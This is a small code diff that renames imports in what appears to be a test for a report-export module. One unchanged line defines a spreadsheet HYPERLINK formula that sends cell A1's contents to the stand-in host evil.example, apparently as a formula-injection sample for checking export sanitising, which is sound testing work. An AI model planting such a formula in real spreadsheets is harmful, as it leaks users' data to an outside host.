@@ -10,11 +10,11 @@ from zoneinfo import ZoneInfo
 from openpyxl import load_workbook
 
 from hotline_eval.figures_csv import read_counts
-from rating_core.cell_text import csv_text
-from rating_core.export import COLUMNS, write_csv
-from rating_core.figures import FiguresTable
-from rating_core.figures_xlsx import write_report
-from rating_core.scoring import load_scoring_rules, score_units
+from rating_core.reports.cell_text import csv_text
+from rating_core.reports.export import COLUMNS, write_csv
+from rating_core.reports.figures import FiguresTable
+from rating_core.reports.figures_xlsx import write_report
+from rating_core.reports.scoring import load_scoring_rules, score_units
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 
